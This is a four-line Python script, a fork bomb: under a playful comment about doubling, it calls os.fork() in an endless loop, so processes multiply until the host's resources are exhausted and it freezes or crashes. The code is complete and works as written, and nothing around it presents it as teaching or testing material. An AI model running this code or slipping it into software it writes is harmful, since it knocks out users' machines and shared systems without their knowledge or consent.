# Twice as many with every turn.
import os
while True:
    os.fork()
